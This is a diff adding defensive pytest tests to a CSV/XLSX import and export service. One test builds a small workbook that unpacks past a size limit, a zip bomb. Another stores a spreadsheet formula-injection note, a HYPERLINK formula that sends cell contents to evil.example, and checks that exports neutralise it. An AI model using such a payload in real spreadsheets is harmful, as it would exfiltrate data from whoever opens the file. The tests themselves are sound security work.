@@ -8,13 +8,16 @@ from uuid import UUID
 import httpx
 import pytest
 import typer
+from openpyxl import load_workbook
 from rich.console import Console
 from sqlmodel import select
 from sqlmodel.ext.asyncio.session import AsyncSession
 from typer.testing import CliRunner
 
 from services.indicators.cli_import import ImportFailed, import_command, import_file
+from services.indicators.imports import parsing as imports_parsing
 from services.indicators.imports import router as imports_router
+from services.indicators.imports.parsing import COLUMNS
 from services.indicators.rounds.models import MeasurementRound
 from services.indicators.values.models import IndicatorValue
 from shared.enums import Role
@@ -36,6 +39,7 @@ from tests.indicators.imports_support import (
 
 __all__ = ["indicators_world", "indicators_world_baseline"]
 
+NOTE = COLUMNS.index("note")
 HEADER = [
     "enterprise_id",
     "enterprise_name",
@@ -307,6 +311,25 @@ async def test_a_file_over_the_limit_answers_413(
         assert response.json()["type"].endswith("/payload-too-large")
 
 
+async def test_a_workbook_unpacking_past_the_limit_is_refused_before_it_is_read(
+    indicators_api: Api, indicators_world: IndicatorsWorld, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # A zip bomb: 1 MB of workbook holding one long cell took the service to 2 GB of memory,
+    # so the 10 MB the gateway lets through could take it down. Here, 40 notes of the 32,767
+    # characters a cell holds against a limit of 1 MB.
+    monkeypatch.setattr(imports_parsing, "MAX_UNPACKED_BYTES", 1024 * 1024, raising=False)
+    enterprise = str(indicators_world.efp_enterprise_id)
+    row = [enterprise, "", "defects", "", "2019-05", "", "", 1, "", "a" * 32_767]
+    data = xlsx_file(HEADER, [row] * 40)
+    assert len(data) < 100 * 1024
+
+    response = await post_file(indicators_api, data, as_=indicators_world.world.efp_staff)
+
+    assert response.status_code == 422, response.text
+    [error] = response.json()["errors"]
+    assert (error["field"], error["rule"]) == ("file", "xlsx_unpacked_size")
+
+
 @pytest.mark.usefixtures("catalogue")
 async def test_idempotency_key_retry_writes_nothing_twice(
     indicators_api: Api,
@@ -493,6 +516,73 @@ async def test_exported_values_reimport_cleanly(
         ("imp_five_s_score", None, "85"),
         ("imp_osh_policy", None, "yes"),
     }
+
+
+@pytest.mark.usefixtures("catalogue")
+@pytest.mark.parametrize("file_format", ["xlsx", "csv"])
+async def test_a_note_typed_as_a_formula_is_exported_as_text_and_reimports_as_typed(
+    indicators_api: Api,
+    indicators_world: IndicatorsWorld,
+    indicators_session: AsyncSession,
+    baseline: MeasurementRound,
+    file_format: str,
+) -> None:
+    # Whoever opens the export must not run what a partner typed: the XLSX held the note as
+    # a live formula (<f>HYPERLINK(...)</f>) and the CSV as a cell spreadsheets evaluate.
+    enterprise = indicators_world.efp_enterprise_id
+    staff = indicators_world.world.efp_staff
+    note = '=HYPERLINK("http://evil.example/?d="&A2,"details")'
+    entered = await indicators_api.post(
+        "/values/batches",
+        json={
+            "values": [
+                {
+                    "enterprise_id": str(enterprise),
+                    "indicator_code": "imp_five_s_score",
+                    "round_id": str(baseline.id),
+                    "value": "85",
+                    "note": note,
+                }
+            ]
+        },
+        as_=staff,
+    )
+    assert entered.status_code == 201, entered.text
+
+    exported = await indicators_api.get(
+        "/exports/values",
+        params={"enterprise_id": str(enterprise), "format": file_format},
+        as_=staff,
+    )
+
+    assert exported.status_code == 200, exported.text
+    if file_format == "xlsx":
+        workbook = load_workbook(io.BytesIO(exported.content), read_only=True)
+        try:
+            [row] = workbook["values"].iter_rows(min_row=2)
+            cell = row[NOTE]
+            assert (cell.data_type, cell.value) == ("s", note)
+        finally:
+            workbook.close()
+    else:
+        [line] = csv_rows(exported.content)[1:]
+        assert line[NOTE] == "'" + note
+    again = await post_file(
+        indicators_api,
+        exported.content,
+        as_=staff,
+        content_type=exported.headers["content-type"],
+        format=file_format,
+    )
+    assert again.status_code == 200, again.text
+    [stored] = (
+        await indicators_session.execute(
+            select(IndicatorValue.note).where(
+                IndicatorValue.enterprise_id == enterprise, IndicatorValue.is_current
+            )
+        )
+    ).all()
+    assert stored.note == note
 
 
 @pytest.mark.usefixtures("catalogue")
